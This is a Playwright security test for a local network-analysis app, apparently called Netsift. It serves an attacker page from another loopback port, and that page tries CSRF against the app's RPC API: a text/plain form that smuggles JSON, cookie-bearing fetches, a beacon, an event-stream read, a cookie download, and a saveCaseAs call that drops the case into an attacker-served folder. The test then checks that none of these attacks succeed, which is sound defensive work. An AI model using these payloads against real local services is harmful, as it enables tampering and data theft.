// Issue 15 item 1: CSRF from any page on 127.0.0.1 at another port. A second, real HTTP server on
// another loopback port serves a page that tries the attacks the probe found working (a form post
// of a text/plain body, fetch with the browser's cookies, a JSON fetch, a beacon, saveCaseAs into a
// folder it serves, the event stream and a download by cookie) in the same Chromium that has the
// workspace open. None may change the case or leak it. Also: the page takes the token out of its
// address after load, and the workspace keeps working (a reload included).
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { NetsiftApp } from './helpers/netsift-app';

test.describe.configure({ mode: 'serial' });

let app: NetsiftApp;
let page: Page;
let evil: http.Server;
let evilPort = 0;
/** Where saveCaseAs would put the copy: a folder the attacker's server serves. */
let loot: string;
/** What the attacker's server received and did. */
const seen: string[] = [];

/** The attacker's page: every attack at once, then title "done". */
function attackPage(
  target: string,
  incidentKey: string,
  exportName: string,
  lootFile: string,
): string {
  const call = (method: string, args: unknown[]) => JSON.stringify({ method, args });
  // a form cannot send JSON, but text/plain "name=value" with name '{"method":...,"x":"' and
  // value '"}' arrives as valid JSON: the classic CSRF-on-a-JSON-API trick
  const formName =
    call('addAllowRule', [
      { kind: 'host', ip: '10.66.66.1', ip2: null, cidr: null, port: null, reason: '' },
    ]).slice(0, -1) + ',"x":"';
  return `<!doctype html><meta charset="utf-8"><title>attacking</title>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" action="${target}/api/rpc" enctype="text/plain" target="sink">
  <input name='${formName}' value='"}'>
</form>
<form id="g" method="POST" action="${target}/api/rpc" target="sink">
  <input name="method" value="addAllowRule"><input name="args" value='[{"kind":"host","ip":"10.66.66.2"}]'>
</form>
<script>
const T = ${JSON.stringify(target)};
const results = [];
const wait = (ms) => new Promise((r) => setTimeout(r, ms));
const note = (what, p) => p.then((r) => results.push(what + ': ' + (r && r.type) + ' ' + (r && r.status)), (e) => results.push(what + ': ' + e));
const es = new EventSource(T + '/api/events', { withCredentials: true });
es.onmessage = (m) => results.push('event leaked: ' + m.data);
(async () => {
  // one at a time, so each attack's effect can be told apart; saveCaseAs last (it switches case)
  document.getElementById('f').submit();
  await wait(400);
  document.getElementById('g').submit();
  await wait(400);
  await note('fetch text/plain with cookies', fetch(T + '/api/rpc', { method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(call('updateTriage', [incidentKey, { status: 'false-positive', notes: 'csrf' }]))} }));
  await note('fetch json with cookies', fetch(T + '/api/rpc', { method: 'POST', credentials: 'include',
    headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(call('addAllowRule', [{ kind: 'host', ip: '10.66.66.3', ip2: null, cidr: null, port: null, reason: '' }]))} }));
  navigator.sendBeacon(T + '/api/rpc', ${JSON.stringify(call('addAllowRule', [{ kind: 'host', ip: '10.66.66.4', ip2: null, cidr: null, port: null, reason: '' }]))});
  await note('download by cookie', fetch(T + '/api/exports/${exportName}', { mode: 'no-cors', credentials: 'include' }));
  await wait(500);
  await note('saveCaseAs', fetch(T + '/api/rpc', { method: 'POST', mode: 'no-cors', credentials: 'include',
    headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(call('saveCaseAs', [lootFile]))} }));
  await wait(1000);
  // the saved copy would now sit in a folder this server serves: take it
  await note('take the copy', fetch('/loot.duckdb'));
  es.close();
  window.results = results;
  document.title = 'done';
})();
</script>`;
}

test.beforeAll(async () => {
  app = new NetsiftApp(undefined, 'cross-origin');
  await app.start(['--sample']);
  page = app.page;
  loot = path.join(app.home, 'served', 'loot.duckdb');
  fs.mkdirSync(path.dirname(loot), { recursive: true });
  await expect
    .poll(async () => (await app.call<{ analyzed: boolean } | null>('caseInfo'))?.analyzed, {
      timeout: 110_000,
    })
    .toBe(true);
});

test.afterAll(async () => {
  await new Promise((r) => (evil ? evil.close(r) : r(null)));
  await app?.stop();
});

test('the page drops the token from its address and keeps working (also after a reload)', async () => {
  expect(new URL(app.url).searchParams.get('token')).toBeTruthy();
  expect(page.url()).not.toContain('token');
  const stored = await page.evaluate(() =>
    (
      globalThis as unknown as { sessionStorage: { getItem(k: string): string | null } }
    ).sessionStorage.getItem('netsift-token'),
  );
  expect(stored).toBe(new URL(app.url).searchParams.get('token'));
  const main = await page.request.get(new URL(app.url).origin + '/');
  expect(main.headers()['referrer-policy']).toBe('no-referrer');
  await page.reload();
  await expect(page.locator('.incidents-pane .ag-row[row-index="0"]')).toBeVisible({
    timeout: 60_000,
  });
  expect(page.url()).not.toContain('token');
  await app.shot('workspace-after-reload');
});

test('a page on another loopback port can neither change the case nor read it', async () => {
  const target = new URL(app.url).origin;
  const incidents = await app.call<{ key: string }[]>('incidents');
  const key = incidents[0].key;
  const before = await app.call<{ status: string; notes: string }>('triage', key);
  const exported = await app.call<{ fileName: string }>('exportReport', { format: 'json' });
  const html = attackPage(target, key, exported.fileName, loot);
  evil = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    if (req.url === '/loot.duckdb' && fs.existsSync(loot)) {
      seen.push('served the copy');
      return void fs.createReadStream(loot).pipe(res);
    }
    res.writeHead(200, { 'content-type': 'text/html' }).end(html);
  });
  await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
  evilPort = (evil.address() as AddressInfo).port;
  expect(evilPort).not.toBe(new URL(app.url).port);

  // the analyst opens the attacker's page in another tab of the same browser
  const attacker = await page.context().newPage();
  await attacker.goto(`http://127.0.0.1:${evilPort}/`);
  await expect(attacker).toHaveTitle('done', { timeout: 30_000 });
  const results = await attacker.evaluate(
    () => (globalThis as unknown as { results: string[] }).results,
  );
  expect(results.filter((r) => r.startsWith('event leaked'))).toEqual([]);
  await attacker.screenshot({
    path: path.join(path.dirname(await app.shot('attacked')), 'cross-origin-attacker.png'),
  });
  await attacker.close();

  // nothing changed: no allow rule, the triage as it was, no copy of the case anywhere (every
  // attack that went through is listed, in the case open now: saveCaseAs would have switched to it)
  const through: string[] = [];
  for (const r of await app.call<{ ip: string }[]>('allowRules'))
    through.push(`allow rule ${r.ip} added`);
  const after = await app.call<{ status: string; notes: string }>('triage', key);
  if (after.status !== before.status || after.notes !== before.notes)
    through.push(`triage changed to ${after.status} "${after.notes}"`);
  if (fs.existsSync(loot)) through.push(`saveCaseAs wrote ${loot}`);
  if ((await app.call<{ path: string }>('caseInfo')).path === loot)
    through.push('the workspace switched to the copy');
  if (seen.includes('served the copy')) through.push('the attacker downloaded the copy');
  expect(through).toEqual([]);
  // and the workspace itself still works: the same calls from its own page go through
  const added = await app.call<{ rule: { ip: string } }>('addAllowRule', {
    kind: 'host',
    ip: '10.66.66.9',
    reason: 'own page',
  });
  expect(added.rule.ip).toBe('10.66.66.9');
});
